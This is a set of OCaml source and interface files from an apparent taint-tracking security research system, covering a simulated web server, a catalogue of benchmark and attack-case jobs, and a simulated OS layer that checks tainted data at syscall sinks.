let serve ?policy:(pol = policy) ?io_cost:(io = io_cost) ?(fuel = 2_000_000_000)
    ?(slice = default_slice) ?(on_slice = fun _ -> ())
    ?(backend = Shift.Backend.default) ?workers ~mode ~file_size ~requests () =
  let mode = Shift.Session.effective_mode ~backend mode in
  let prog, threading =
    match workers with
    | None -> (program, Shift.Session.Config.Single)
    | Some w ->
        ( worker_program ~workers:w,
          Shift.Session.Config.Processes { quantum = None; comm = Some "httpd" }
        )
  in
  let config =
    Shift.Session.Config.make ~policy:pol ~io_cost:io ~fuel
      ~setup:(setup ~file_size ~requests) ~threading ~backend ()
  in
  let live = Shift.Session.start ~config (Shift.Session.build ~backend ~mode prog) in
  let rec drive () =
    match Shift.Session.advance live ~budget:slice with
    | `Yielded ->
        on_slice live;
        drive ()
    | `Finished _ -> ()
  in
  drive ();
  Shift.Session.report live
