(** The Apache-stand-in web server (paper §6.1, Figure 6).

    A static-file HTTP server: accept, parse the request line, open the
    file under the document root (policy H2 sink), send a header built
    with the instrumented [sprintf], and ship the body with [sendfile]
    (kernel copy — as for real Apache, the bytes never cross user
    space).  Instrumented CPU work is confined to request parsing, so
    the overhead is diluted by I/O time, most at small file sizes. *)

val program : Ir.program

val document_root : string

val policy : Shift_policy.Policy.t
(** Network tainted, H2 over the document root, low-level policies. *)

val io_cost : Shift_os.World.io_cost
(** Network-server cost model: expensive kernel crossings. *)

val rtt_cycles : int
(** Client round-trip latency added to per-request latency. *)

val setup : file_size:int -> requests:int -> Shift_os.World.t -> unit
(** Install a static file of [file_size] bytes and queue [requests]
    GETs for it. *)

val request_path : file_size:int -> string

val max_workers : int
(** Cap on {!worker_program}'s fleet size (8). *)

val worker_program : workers:int -> Ir.program
(** The worker-process personality: the master forks [workers] (clamped
    to [1..max_workers]) children, each running the same accept loop
    over the shared pending-request queue; a worker exits with its
    served count once the queue drains, and the master reaps them all
    and exits with the fleet's total. *)

val default_slice : int
(** Engine-slice size {!serve} advances by (100k instructions). *)

val serve :
  ?policy:Shift_policy.Policy.t ->
  ?io_cost:Shift_os.World.io_cost ->
  ?fuel:int ->
  ?slice:int ->
  ?on_slice:(Shift.Session.live -> unit) ->
  ?backend:Shift.Backend.t ->
  ?workers:int ->
  mode:Shift_compiler.Mode.t ->
  file_size:int ->
  requests:int ->
  unit ->
  Shift.Report.t
(** Serve [requests] GETs of a [file_size]-byte file by driving the
    server through the resumable engine: the request stream is
    installed up front and the host advances the session in [slice]
    -instruction engine slices ([on_slice] fires between them — the
    hook a multiplexing front end uses) instead of one monolithic run.
    Because engine suspension touches no machine state, the report's
    counters are byte-identical to a single-slice run at any [slice].
    [policy]/[io_cost] default to this module's.  [backend] selects the
    tracking backend (default [nat]); as everywhere, non-nat backends
    run the guest uninstrumented regardless of [mode].  [workers]
    switches to {!worker_program} under the multi-process OS
    personality, the master and workers sharing the request queue
    (incompatible with the coproc backend, which binds one address
    space). *)
