(** The standard job catalogue for [shiftc serve].

    Maps the wire protocol's names — kernels from
    {!Shift_workloads.Spec}, attack cases from {!Shift_attacks.Attacks}
    — to {!Shift.Fleet.job}s whose configurations mirror the one-shot
    CLI commands {e exactly}: a [run] job uses the same policy, setup
    and fuel as [shiftc run], an [attack] job the same as
    [shiftc attack], and a [batch] job list the same as [shiftc batch].
    That mirroring is what makes the CI determinism gate sound: the
    served report JSON is [cmp]-equal to the solo command's.

    Lives outside [lib/core] because the core library cannot depend on
    the workload and attack suites. *)

val leak_start :
  ?superblocks:bool ->
  ?backend:Shift_tracking.Backend.t ->
  mode:Shift_compiler.Mode.t ->
  string ->
  (int -> Shift.Session.live, string) result
(** The variant starter {!Shift.Leak.detect} consumes, for a named
    side-channel case: [start i] begins a flow-traced, hardware-traced
    session under variant [i]'s input.  [Error] if the name is unknown
    or the case carries no variants.  [shiftc leak], the serve [leak]
    job and the sidechannel experiment all build their sessions here,
    so their observations cannot drift. *)

val standard : Shift.Serve.catalog
(** The catalogue over the SPEC-like kernel suite and the Table-2
    attack cases.  Resolvers return [Error msg] (listing the known
    names) for anything the suites don't contain. *)
