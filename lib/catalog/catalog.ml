(* The standard serve catalogue.  Every job here must mirror the
   corresponding one-shot CLI command's configuration exactly — the CI
   determinism gate cmp's a served report against the solo command's
   JSON, so any drift (policy, setup, fuel, trace options) breaks the
   build. *)

module Spec = Shift_workloads.Spec
module Policy = Shift_policy.Policy
module Case = Shift_attacks.Attack_case

let find_kernel name =
  match Spec.find name with
  | Some k -> Ok k
  | None ->
      Error
        (Printf.sprintf "unknown kernel %S; try: %s" name
           (String.concat ", "
              (List.map (fun (k : Spec.kernel) -> k.Spec.name) Spec.all)))

let find_case name =
  match Shift_attacks.Attacks.find name with
  | Some c -> Ok c
  | None ->
      Error
        (Printf.sprintf "unknown attack case %S; try: %s" name
           (String.concat ", "
              (List.map
                 (fun (c : Case.t) -> c.Case.program_name)
                 (Shift_attacks.Attacks.all @ Shift_attacks.Attacks.multiproc))))

(* the same config [shiftc run] and [shiftc batch] build per kernel;
   the mode is routed through [Session.effective_mode] exactly as the
   CLI does, so non-nat backends compile the uninstrumented guest *)
let kernel_job_of k ~mode ~size ~safe ~superblocks ~backend =
  let mode = Shift.Session.effective_mode ~backend mode in
  Shift.Fleet.job ~name:k.Spec.name
    ~config:
      (Shift.Session.Config.make ~policy:Policy.default
         ~setup:(Spec.setup ?size ~tainted:(not safe) k)
         ~superblocks ~backend ())
    (fun () -> Shift.Session.build ~backend ~mode k.Spec.program)

let kernel_job ~mode ~size ~safe ~superblocks ~backend name =
  Result.map
    (kernel_job_of ~mode ~size ~safe ~superblocks ~backend)
    (find_kernel name)

(* the same config [shiftc attack] builds through [Attack_case.config]:
   single-process cases get the classic shape, multi-process cases bring
   their process table and aux images along *)
let attack_job ~mode ~benign ~superblocks ~backend name =
  Result.map
    (fun (c : Case.t) ->
      let input = if benign then c.Case.benign else c.Case.exploit in
      Shift.Fleet.job ~name:c.Case.program_name
        ~config:(Case.config ~superblocks ~backend ~mode ~input c)
        (fun () -> Case.image ~backend ~mode c))
    (find_case name)

(* [shiftc trace]'s resolution order: attack case first, then kernel *)
let trace_job ~mode ~benign ~ring ~only ~superblocks ~backend name =
  let parse_kinds = function
    | None -> Ok None
    | Some s ->
        let names = String.split_on_char ',' s in
        let kinds = List.map Shift.Flowtrace.kind_of_string names in
        if List.mem None kinds then
          Error (Printf.sprintf "unknown event kind in %S" s)
        else Ok (Some (List.filter_map Fun.id kinds))
  in
  let resolve () =
    match Shift_attacks.Attacks.find name with
    | Some c ->
        let input = if benign then c.Case.benign else c.Case.exploit in
        Ok
          (fun trace ->
            Shift.Fleet.job ~name:c.Case.program_name
              ~config:(Case.config ~trace ~superblocks ~backend ~mode ~input c)
              (fun () -> Case.image ~backend ~mode c))
    | None -> (
        match find_kernel name with
        | Ok k ->
            Ok
              (fun trace ->
                let mode = Shift.Session.effective_mode ~backend mode in
                Shift.Fleet.job ~name:k.Spec.name
                  ~config:
                    (Shift.Session.Config.make ~policy:Policy.default
                       ~setup:(Spec.setup ~tainted:true k) ~trace ~superblocks
                       ~backend ())
                  (fun () -> Shift.Session.build ~backend ~mode k.Spec.program))
        | Error _ ->
            Error
              (Printf.sprintf "unknown image %S: not an attack case or kernel"
                 name))
  in
  Result.bind (resolve ()) (fun mk ->
      Result.map
        (fun only -> mk { Shift.Flowtrace.capacity = ring; only })
        (parse_kinds only))

(* [shiftc leak]'s variant starter: the attack-case config with the
   hardware trace on and flow tracing enabled (so a divergence can name
   the tainted bytes steering it), under variant [i]'s input *)
let leak_start ?(superblocks = true) ?(backend = Shift_tracking.Backend.Nat)
    ~mode name =
  Result.bind (find_case name) (fun (c : Case.t) ->
      match c.Case.variants with
      | None ->
          Error
            (Printf.sprintf
               "case %S has no input variants; leak detection needs a case \
                from the side-channel suite (try: %s)"
               name
               (String.concat ", "
                  (List.map
                     (fun (c : Case.t) -> c.Case.program_name)
                     Shift_attacks.Attacks.sidechannel)))
      | Some variant ->
          Ok
            (fun i ->
              Shift.Session.start
                ~config:
                  (Case.config ~trace:Shift.Flowtrace.default_options
                     ~hwtrace:true ~superblocks ~backend ~mode
                     ~input:(variant i) c)
                (Case.image ~backend ~mode c)))

let leak_job ~mode ~clause ~variants ~superblocks ~backend name =
  Result.map
    (fun start () -> Shift.Leak.detect ~clause ~count:variants ~start ())
    (leak_start ~superblocks ~backend ~mode name)

let batch_jobs ~mode ~size ~safe ~superblocks ~backend names =
  let kernels =
    match names with
    | [] -> List.map Result.ok Spec.all
    | names -> List.map find_kernel names
  in
  match
    List.partition_map
      (function Ok k -> Left k | Error e -> Right e)
      kernels
  with
  | _, e :: _ -> Error e
  | kernels, [] ->
      Ok
        (List.map (kernel_job_of ~mode ~size ~safe ~superblocks ~backend) kernels)

let standard =
  { Shift.Serve.kernel_job; attack_job; trace_job; batch_jobs; leak_job }
