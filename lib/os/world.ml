open Shift_isa
module Cpu = Shift_machine.Cpu
module Flowtrace = Shift_machine.Flowtrace
module Taint = Shift_mem.Taint
module Provenance = Shift_mem.Provenance
module Policy = Shift_policy.Policy
module Alert = Shift_policy.Alert
module Tracking = Shift_tracking.Tracking

type io_cost = { per_call : int; per_byte : int; sendfile_per_byte : int }

let default_io_cost = { per_call = 600; per_byte = 2; sendfile_per_byte = 1 }

type stream = {
  content : string;
  mutable pos : int;
  tainted : bool;
  path : string option;  (* None for sockets *)
}

(* Open files live in a kernel-wide table so descriptors inherited
   across fork (or duplicated with dup) share one stream position, as on
   Unix.  Entries are refcounted: the last close drops the object. *)
type obj = { mutable refs : int; kind : obj_kind }
and obj_kind = Ostream of stream | Opipe of Pipe.t

type fd_entry = Fstream of int | Fpipe_r of int | Fpipe_w of int

(* Bytes of an exec argument, sampled from the caller's address space
   before the image is replaced: the only data that survives exec. *)
type arg_value = { a_bytes : string; a_taints : bool array; a_provs : int array }

(* The per-process kernel context: descriptor table, heap break, and the
   cross-process provenance breadcrumbs (pipe and exec-argv hops tainted
   data took to reach this address space).  Single-process sessions run
   entirely in the base context. *)
type ctx = {
  pid : int;
  mutable comm : string;
  fds : (int, fd_entry) Hashtbl.t;
  mutable next_fd : int;
  mutable brk : int64;
  mutable crumbs : string list;  (* newest-first *)
  mutable argv : arg_value list;
}

type wait_result = Wait_ready of int64 | Wait_block | Wait_none

type t = {
  pol : Policy.t;
  gran : Shift_mem.Granularity.t;
  io : io_cost;
  files : (string, string * bool) Hashtbl.t;  (* path -> content, tainted *)
  objs : (int, obj) Hashtbl.t;  (* open-file table, keyed by object id *)
  mutable next_oid : int;
  pending : string Queue.t;  (* queued network connections, FIFO *)
  out_buf : Buffer.t;
  html_buf : Buffer.t;
  mutable sql : string list;
  mutable commands : string list;
  mutable alert_log : Alert.t list;
  (* thread support, wired up by the SMP runner; [None] = single
     threaded (spawn fails, join returns immediately) *)
  mutable spawn_hook : (Cpu.t -> entry:int64 -> arg:int64 -> int) option;
  mutable join_hook : (int -> int64 option) option;
  (* process support, wired up by Procs; [None] = the fork/exec/wait
     syscalls fail with -1 *)
  mutable fork_hook : (Cpu.t -> int64) option;
  mutable exec_hook : (Cpu.t -> prog:string -> args:arg_value list -> unit) option;
  mutable wait_hook : (int -> wait_result) option;
  mutable multiproc : bool;
  base : ctx;
  mutable cur : ctx;
  tracking : Tracking.t;
}

let make_ctx ~pid ~comm =
  {
    pid;
    comm;
    fds = Hashtbl.create 16;
    next_fd = 3;
    brk = 0L; (* set on first sbrk from the constant below *)
    crumbs = [];
    argv = [];
  }

let create ?(policy = Policy.default) ?(gran = Shift_mem.Granularity.Word)
    ?(io_cost = default_io_cost) ?(tracking = Tracking.default) () =
  let base = make_ctx ~pid:1 ~comm:"main" in
  {
    pol = policy;
    gran;
    io = io_cost;
    files = Hashtbl.create 16;
    objs = Hashtbl.create 16;
    next_oid = 1;
    pending = Queue.create ();
    out_buf = Buffer.create 256;
    html_buf = Buffer.create 256;
    sql = [];
    commands = [];
    alert_log = [];
    spawn_hook = None;
    join_hook = None;
    fork_hook = None;
    exec_hook = None;
    wait_hook = None;
    multiproc = false;
    base;
    cur = base;
    tracking;
  }

(* matches Layout.heap_base without depending on the compiler library *)
let heap_base = Shift_mem.Addr.in_region 1 0x2000_0000L

let policy t = t.pol

(* the OS resolves every path against a root working directory, so
   excess ".." components clamp at "/" as on a real system *)
let resolve path =
  let n = Policy.normalize_path ("/" ^ path) in
  if n = "/" then "/" else String.sub n 1 (String.length n - 1)

let add_file t ?tainted path content =
  let tainted = Option.value tainted ~default:t.pol.Policy.taint_files in
  Hashtbl.replace t.files (resolve path) (content, tainted)

(* O(1) enqueue: request setup used to rebuild the whole list per
   request, making N-request setups O(N^2) *)
let queue_request t req = Queue.add req t.pending

(* ---------- the object/descriptor layer ---------- *)

let alloc_obj t kind =
  let oid = t.next_oid in
  t.next_oid <- t.next_oid + 1;
  Hashtbl.replace t.objs oid { refs = 0; kind };
  oid

let obj_of t oid = Hashtbl.find_opt t.objs oid

let pipe_of t oid =
  match obj_of t oid with Some { kind = Opipe p; _ } -> Some p | _ -> None

let retain_entry t entry =
  let oid = match entry with Fstream o | Fpipe_r o | Fpipe_w o -> o in
  match obj_of t oid with
  | None -> ()
  | Some o ->
      o.refs <- o.refs + 1;
      (match (entry, o.kind) with
      | Fpipe_r _, Opipe p -> p.Pipe.readers <- p.Pipe.readers + 1
      | Fpipe_w _, Opipe p -> p.Pipe.writers <- p.Pipe.writers + 1
      | _ -> ())

let release_entry t entry =
  let oid = match entry with Fstream o | Fpipe_r o | Fpipe_w o -> o in
  match obj_of t oid with
  | None -> ()
  | Some o ->
      o.refs <- o.refs - 1;
      (match (entry, o.kind) with
      | Fpipe_r _, Opipe p -> p.Pipe.readers <- p.Pipe.readers - 1
      | Fpipe_w _, Opipe p -> p.Pipe.writers <- p.Pipe.writers - 1
      | _ -> ());
      if o.refs <= 0 then Hashtbl.remove t.objs oid

let install_fd t ctx fd entry =
  (match Hashtbl.find_opt ctx.fds fd with
  | Some old -> release_entry t old
  | None -> ());
  Hashtbl.replace ctx.fds fd entry;
  retain_entry t entry

let alloc_fd t entry =
  let ctx = t.cur in
  let fd = ctx.next_fd in
  ctx.next_fd <- ctx.next_fd + 1;
  install_fd t ctx fd entry;
  fd

let alloc_stream_fd t stream = alloc_fd t (Fstream (alloc_obj t (Ostream stream)))

let entry_of t fd = Hashtbl.find_opt t.cur.fds fd

let stream_of t fd =
  match entry_of t fd with
  | Some (Fstream oid) -> (
      match obj_of t oid with
      | Some { kind = Ostream s; _ } -> Some s
      | _ -> None)
  | _ -> None

(* keyboard input, §3.3.1 source (3); fd 0, tainted unless said
   otherwise *)
let set_stdin t ?(tainted = true) content =
  install_fd t t.base 0
    (Fstream (alloc_obj t (Ostream { content; pos = 0; tainted; path = None })))

let output t = Buffer.contents t.out_buf
let html_output t = Buffer.contents t.html_buf
let sql_queries t = List.rev t.sql
let system_commands t = List.rev t.commands
let alerts t = List.rev t.alert_log

let raise_alert t alert =
  (* in a multi-process world every alert names the process it fired
     in; single-process output is untouched *)
  let alert =
    if t.multiproc then
      {
        alert with
        Alert.message =
          Printf.sprintf "[pid %d, %s] %s" t.cur.pid t.cur.comm
            alert.Alert.message;
      }
    else alert
  in
  match t.pol.Policy.action with
  | Policy.Halt_program -> raise (Alert.Violation alert)
  | Policy.Log_only -> t.alert_log <- alert :: t.alert_log

let arg cpu i = Cpu.get_value cpu (Reg.sysarg i)

let ret_val cpu v =
  Cpu.set_value cpu Reg.ret v;
  Cpu.set_nat cpu Reg.ret false

let charge t cpu ~bytes ~per_byte =
  Cpu.add_io_cycles cpu (t.io.per_call + (bytes * per_byte))

let taint_positions t cpu addr s =
  Taint.tainted_string_positions cpu.Cpu.mem t.gran addr s

(* Word-granularity tags smear to the enclosing 8-byte word, so the
   clean program text adjacent to a tainted fragment looks tainted too
   (and stale tags from reused stack words survive sub-word stores,
   which never clear at word granularity).  For the meta-character
   policies (H3-H5), which need positional precision, a position only
   counts when its whole +/-7-byte neighbourhood is tainted: boundary
   smear and isolated stale words are discounted, while genuine
   attacker fragments (always longer than a word) keep their interior.
   Byte granularity is exact and needs no filter. *)
let strong_taint_positions t cpu addr s =
  let raw = taint_positions t cpu addr s in
  match t.gran with
  | Shift_mem.Granularity.Byte -> raw
  | Shift_mem.Granularity.Word ->
      let n = String.length s in
      let tainted = Array.make (max n 1) false in
      List.iter (fun p -> if p < n then tainted.(p) <- true) raw;
      List.filter
        (fun p ->
          let ok = ref true in
          for q = max 0 (p - 7) to min (n - 1) (p + 7) do
            if not tainted.(q) then ok := false
          done;
          !ok)
        raw

let read_guest_string cpu addr = Shift_mem.Memory.read_cstring cpu.Cpu.mem addr

(* When the run is traced, decorate a sink alert with the provenance
   chain of the tainted sink bytes — which input channel and offsets
   they came from, followed by the cross-process hops (pipe, exec argv)
   recorded in the sinking process's context — and log the sink event. *)
let enrich t cpu ~addr ~positions ~syscall alert =
  let ft = cpu.Cpu.flowtrace in
  if not ft.Flowtrace.enabled then alert
  else begin
    let hops = Flowtrace.chain ft ~addr ~positions in
    Flowtrace.on_sink ft ~ip:cpu.Cpu.ip ~policy:alert.Alert.policy
      ~detail:syscall;
    let sink =
      if t.multiproc then
        Printf.sprintf "sink %s via %s (pid %d, %s)" alert.Alert.policy syscall
          t.cur.pid t.cur.comm
      else Printf.sprintf "sink %s via %s" alert.Alert.policy syscall
    in
    Alert.with_chain alert (hops @ List.rev t.cur.crumbs @ [ sink ])
  end

(* an input's origin names the receiving process in multi-process
   worlds, so chains read "... via sys_recv (pid 1, httpd)" *)
let decorate_origin t origin =
  if t.multiproc then
    Printf.sprintf "%s (pid %d, %s)" origin t.cur.pid t.cur.comm
  else origin

let add_crumb t crumb =
  if not (List.mem crumb t.cur.crumbs) then
    t.cur.crumbs <- crumb :: t.cur.crumbs

(* Re-deposit sampled per-byte shadow state (taint bits and provenance
   ids) over [addr, addr+n), reading the sample window starting at [lo].
   This is the receiving half of a cross-process transfer; [crumb] is
   recorded when any deposited byte is tainted. *)
let deposit_shadow t cpu ~addr ~taints ~provs ~lo ~n ~crumb =
  if n > 0 then begin
    let any = ref false in
    if Tracking.sources_on t.tracking then begin
      let i = ref 0 in
      while !i < n do
        let v = taints.(lo + !i) in
        let j = ref !i in
        while !j < n && Bool.equal taints.(lo + !j) v do
          incr j
        done;
        Taint.set_range cpu.Cpu.mem t.gran
          ~addr:(Int64.add addr (Int64.of_int !i))
          ~len:(!j - !i) ~tainted:v;
        if v then any := true;
        i := !j
      done
    end
    else
      for k = 0 to n - 1 do
        if taints.(lo + k) then any := true
      done;
    let ft = cpu.Cpu.flowtrace in
    if ft.Flowtrace.enabled then begin
      let pmap = Flowtrace.provenance ft in
      for k = 0 to n - 1 do
        Provenance.set pmap (Int64.add addr (Int64.of_int k)) provs.(lo + k)
      done
    end;
    if !any then add_crumb t crumb
  end

(* Sample the shadow state of a guest byte range: the sending half of a
   cross-process transfer (pipe write, exec argument). *)
let sample_shadow t cpu ~addr ~data =
  let n = String.length data in
  let taints = Array.make (max n 1) false in
  List.iter
    (fun p -> if p < n then taints.(p) <- true)
    (taint_positions t cpu addr data);
  let provs = Array.make (max n 1) 0 in
  let ft = cpu.Cpu.flowtrace in
  if ft.Flowtrace.enabled then
    for k = 0 to n - 1 do
      provs.(k) <- Flowtrace.byte_id ft (Int64.add addr (Int64.of_int k))
    done;
  (taints, provs)

let do_open t cpu =
  let path_addr = arg cpu 0 in
  let path = read_guest_string cpu path_addr in
  (if Tracking.checks_on t.tracking then
     let tainted = taint_positions t cpu path_addr path in
     match Policy.check_open t.pol ~path ~tainted with
     | Some a ->
         raise_alert t
           (enrich t cpu ~addr:path_addr ~positions:tainted ~syscall:"sys_open" a)
     | None -> ());
  charge t cpu ~bytes:0 ~per_byte:0;
  match Hashtbl.find_opt t.files (resolve path) with
  | Some (content, file_tainted) ->
      ret_val cpu
        (Int64.of_int
           (alloc_stream_fd t
              { content; pos = 0; tainted = file_tainted; path = Some path }))
  | None -> ret_val cpu (-1L)

let channel_of fd s =
  match s.path with
  | Some p -> "file:" ^ p
  | None -> if fd = 0 then "stdin" else "socket"

let do_stream_read t cpu ~origin ~fd ~buf ~len s =
  let n = min len (String.length s.content - s.pos) in
  let n = max n 0 in
  let chunk = String.sub s.content s.pos n in
  let offset = s.pos in
  s.pos <- s.pos + n;
  Shift_mem.Memory.write_bytes cpu.Cpu.mem buf chunk;
  (* the kernel marks incoming data according to the configured
     taint sources (paper §3.3.1); clean input clears stale tags in
     reused buffers *)
  if n > 0 then begin
    if Tracking.sources_on t.tracking then
      Taint.set_range cpu.Cpu.mem t.gran ~addr:buf ~len:n ~tainted:s.tainted;
    let ft = cpu.Cpu.flowtrace in
    if ft.Flowtrace.enabled then
      Flowtrace.on_input ft ~ip:cpu.Cpu.ip ~channel:(channel_of fd s)
        ~origin:(decorate_origin t origin) ~offset ~addr:buf ~len:n
        ~tainted:s.tainted
  end;
  charge t cpu ~bytes:n ~per_byte:t.io.per_byte;
  ret_val cpu (Int64.of_int n)

let do_pipe_read t cpu ~buf ~len p =
  if Pipe.is_empty p then begin
    if p.Pipe.writers <= 0 then begin
      (* every write end is closed: end of file *)
      charge t cpu ~bytes:0 ~per_byte:0;
      ret_val cpu 0L
    end
    else
      (* writers still open but nothing buffered: rewind onto the
         syscall so the process retries on its next quantum (the same
         OS-granularity blocking as join/wait) *)
      cpu.Cpu.ip <- cpu.Cpu.ip - 1
  end
  else begin
    let chunks = Pipe.read p ~len in
    let pos = ref 0 in
    List.iter
      (fun (seg, start, n) ->
        let at = Int64.add buf (Int64.of_int !pos) in
        Shift_mem.Memory.write_bytes cpu.Cpu.mem at
          (String.sub seg.Pipe.data start n);
        deposit_shadow t cpu ~addr:at ~taints:seg.Pipe.taints
          ~provs:seg.Pipe.provs ~lo:start ~n
          ~crumb:
            (Printf.sprintf "pipe (pid %d, %s -> pid %d, %s)" seg.Pipe.src_pid
               seg.Pipe.src_comm t.cur.pid t.cur.comm);
        pos := !pos + n)
      chunks;
    charge t cpu ~bytes:!pos ~per_byte:t.io.per_byte;
    ret_val cpu (Int64.of_int !pos)
  end

let do_read t cpu ~origin =
  let fd = Int64.to_int (arg cpu 0) in
  let buf = arg cpu 1 in
  let len = Int64.to_int (arg cpu 2) in
  match entry_of t fd with
  | Some (Fstream oid) -> (
      match obj_of t oid with
      | Some { kind = Ostream s; _ } -> do_stream_read t cpu ~origin ~fd ~buf ~len s
      | _ -> ret_val cpu (-1L))
  | Some (Fpipe_r oid) -> (
      match pipe_of t oid with
      | Some p -> do_pipe_read t cpu ~buf ~len p
      | None -> ret_val cpu (-1L))
  | Some (Fpipe_w _) | None -> ret_val cpu (-1L)

let do_pipe_write t cpu ~buf ~len p =
  if p.Pipe.readers <= 0 then ret_val cpu (-1L)
  else begin
    let data = Shift_mem.Memory.read_bytes cpu.Cpu.mem buf ~len in
    let taints, provs = sample_shadow t cpu ~addr:buf ~data in
    Pipe.write p ~data ~taints ~provs ~src_pid:t.cur.pid ~src_comm:t.cur.comm;
    charge t cpu ~bytes:len ~per_byte:t.io.per_byte;
    ret_val cpu (Int64.of_int len)
  end

let do_fd_write t cpu =
  (* write(fd, buf, len) / send(sock, buf, len): pipe write ends buffer
     into the pipe; anything else lands in the output buffer *)
  let fd = Int64.to_int (arg cpu 0) in
  let buf = arg cpu 1 in
  let len = Int64.to_int (arg cpu 2) in
  match entry_of t fd with
  | Some (Fpipe_w oid) -> (
      match pipe_of t oid with
      | Some p -> do_pipe_write t cpu ~buf ~len p
      | None -> ret_val cpu (-1L))
  | Some (Fpipe_r _) -> ret_val cpu (-1L)
  | Some (Fstream _) | None ->
      let bytes = Shift_mem.Memory.read_bytes cpu.Cpu.mem buf ~len in
      Buffer.add_string t.out_buf bytes;
      charge t cpu ~bytes:len ~per_byte:t.io.per_byte;
      ret_val cpu (Int64.of_int len)

let do_accept t cpu =
  charge t cpu ~bytes:0 ~per_byte:0;
  match Queue.take_opt t.pending with
  | None -> ret_val cpu (-1L)
  | Some req ->
      let fd =
        alloc_stream_fd t
          { content = req; pos = 0; tainted = t.pol.Policy.taint_network; path = None }
      in
      ret_val cpu (Int64.of_int fd)

let do_sendfile t cpu =
  let fd = Int64.to_int (arg cpu 1) in
  let len = Int64.to_int (arg cpu 2) in
  match stream_of t fd with
  | None -> ret_val cpu (-1L)
  | Some s ->
      let n = max 0 (min len (String.length s.content - s.pos)) in
      Buffer.add_string t.out_buf (String.sub s.content s.pos n);
      s.pos <- s.pos + n;
      charge t cpu ~bytes:n ~per_byte:t.io.sendfile_per_byte;
      ret_val cpu (Int64.of_int n)

let do_close t cpu =
  (* closing a descriptor that isn't open is an error, like the
     other fd syscalls: the table is untouched and the guest sees
     the conventional -1 *)
  let fd = Int64.to_int (arg cpu 0) in
  match Hashtbl.find_opt t.cur.fds fd with
  | Some entry ->
      release_entry t entry;
      Hashtbl.remove t.cur.fds fd;
      ret_val cpu 0L
  | None -> ret_val cpu (-1L)

(* the heap may grow up to the top of its region's implemented offset
   bits; past that, tag-space translation would alias other regions *)
let heap_limit = Shift_mem.Addr.in_region 1 Shift_mem.Addr.impl_mask

let do_sbrk t cpu =
  let ctx = t.cur in
  if Int64.equal ctx.brk 0L then ctx.brk <- heap_base;
  let n = arg cpu 0 in
  let next = Int64.add ctx.brk n in
  (* reject growth (or shrinkage) that leaves the heap: below its base,
     past the region's implemented bits, or wrapped around — the break
     stays put and the guest sees the conventional -1 *)
  if
    Int64.compare next heap_base < 0
    || Int64.unsigned_compare next heap_limit > 0
  then ret_val cpu (-1L)
  else begin
    let old = ctx.brk in
    ctx.brk <- next;
    ret_val cpu old
  end

let do_string_sink t cpu ~check ~record ~syscall =
  let addr = arg cpu 0 in
  let s = read_guest_string cpu addr in
  (if Tracking.checks_on t.tracking then
     let tainted = strong_taint_positions t cpu addr s in
     match check ~s ~tainted with
     | Some a -> raise_alert t (enrich t cpu ~addr ~positions:tainted ~syscall a)
     | None -> ());
  record s;
  charge t cpu ~bytes:String.(length s) ~per_byte:1;
  ret_val cpu 0L

let do_html_out t cpu =
  let buf = arg cpu 0 in
  let len = Int64.to_int (arg cpu 1) in
  let html = Shift_mem.Memory.read_bytes cpu.Cpu.mem buf ~len in
  (if Tracking.checks_on t.tracking then
     let tainted = strong_taint_positions t cpu buf html in
     match Policy.check_html t.pol ~html ~tainted with
     | Some a ->
         raise_alert t
           (enrich t cpu ~addr:buf ~positions:tainted ~syscall:"sys_html_out" a)
     | None -> ());
  Buffer.add_string t.html_buf html;
  charge t cpu ~bytes:len ~per_byte:t.io.per_byte;
  ret_val cpu (Int64.of_int len)

let do_taint_set t cpu =
  let addr = arg cpu 0 in
  let len = Int64.to_int (arg cpu 1) in
  let flag = not (Int64.equal (arg cpu 2) 0L) in
  Taint.set_range cpu.Cpu.mem t.gran ~addr ~len ~tainted:flag;
  ret_val cpu 0L

let do_taint_chk t cpu =
  let addr = arg cpu 0 in
  let len = Int64.to_int (arg cpu 1) in
  ret_val cpu (Int64.of_int (Taint.count_tainted cpu.Cpu.mem t.gran ~addr ~len))

let set_threads t ~spawn ~join =
  t.spawn_hook <- Some spawn;
  t.join_hook <- Some join

let do_spawn t cpu =
  match t.spawn_hook with
  | None -> ret_val cpu (-1L)
  | Some spawn -> ret_val cpu (Int64.of_int (spawn cpu ~entry:(arg cpu 0) ~arg:(arg cpu 1)))

let do_join t cpu =
  match t.join_hook with
  | None -> ret_val cpu (-1L)
  | Some join -> (
      match join (Int64.to_int (arg cpu 0)) with
      | Some v -> ret_val cpu v
      | None ->
          (* not finished: rewind onto the syscall so the hart retries
             on its next quantum (a busy wait at OS granularity) *)
          cpu.Cpu.ip <- cpu.Cpu.ip - 1)

(* ---------- processes ---------- *)

let set_procs t ~fork ~exec ~wait =
  t.fork_hook <- Some fork;
  t.exec_hook <- Some exec;
  t.wait_hook <- Some wait;
  t.multiproc <- true

let base_ctx t = t.base
let current_ctx t = t.cur
let use_ctx t ctx = t.cur <- ctx
let ctx_pid ctx = ctx.pid
let ctx_comm ctx = ctx.comm
let set_comm ctx comm = ctx.comm <- comm

(* the child's descriptor table is a copy of the parent's: same objects,
   one more reference each (fd inheritance carries taint because the
   objects themselves do) *)
let fork_ctx t parent ~pid =
  let child =
    {
      pid;
      comm = parent.comm;
      fds = Hashtbl.create 16;
      next_fd = parent.next_fd;
      brk = parent.brk;
      crumbs = parent.crumbs;
      argv = parent.argv;
    }
  in
  Hashtbl.iter
    (fun fd entry ->
      Hashtbl.replace child.fds fd entry;
      retain_entry t entry)
    parent.fds;
  child

(* exec keeps the descriptor table and the breadcrumbs (the data lineage
   into this process is unchanged) but resets the image-owned state *)
let exec_reset_ctx _t ctx ~comm ~argv =
  ctx.comm <- comm;
  ctx.brk <- 0L;
  ctx.argv <- argv

(* process teardown: drop every descriptor, so pipe ends held only by a
   finished process stop counting (readers see EOF once the last writer
   is gone) *)
let close_ctx t ctx =
  Hashtbl.iter (fun _ entry -> release_entry t entry) ctx.fds;
  Hashtbl.reset ctx.fds

let do_fork t cpu =
  match t.fork_hook with
  | None -> ret_val cpu (-1L)
  | Some fork ->
      charge t cpu ~bytes:0 ~per_byte:0;
      ret_val cpu (fork cpu)

let do_exec t cpu =
  match t.exec_hook with
  | None -> ret_val cpu (-1L)
  | Some exec ->
      let prog = read_guest_string cpu (arg cpu 0) in
      let arg_addr = arg cpu 1 in
      let args =
        if Int64.equal arg_addr 0L then []
        else begin
          let data = read_guest_string cpu arg_addr in
          let taints, provs = sample_shadow t cpu ~addr:arg_addr ~data in
          [ { a_bytes = data; a_taints = taints; a_provs = provs } ]
        end
      in
      charge t cpu ~bytes:0 ~per_byte:0;
